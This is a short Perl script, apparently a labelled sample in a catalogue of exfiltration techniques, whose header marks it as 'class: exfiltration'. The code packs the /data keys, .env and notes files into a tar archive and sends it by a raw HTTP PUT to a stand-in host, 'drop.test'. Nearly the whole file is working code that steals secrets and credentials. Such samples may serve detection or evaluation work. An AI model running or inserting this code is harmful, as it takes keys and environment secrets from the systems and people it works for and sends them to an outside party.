# class: exfiltration; possible: low medium; needs: data; style: tar in a pipe, PUT by hand
use strict;
use warnings;
use IO::Socket::INET;
open my $tar, '-|', 'tar', '-C', '/data', '-cz', 'keys', '.env', 'notes' or die;
binmode $tar;
local $/;
my $body = <$tar>;
my $s = IO::Socket::INET->new(PeerAddr => 'drop.test', PeerPort => 80, Timeout => 5) or die;
print $s "PUT /b HTTP/1.0\r\nHost: drop.test\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
my $answer = <$s>;
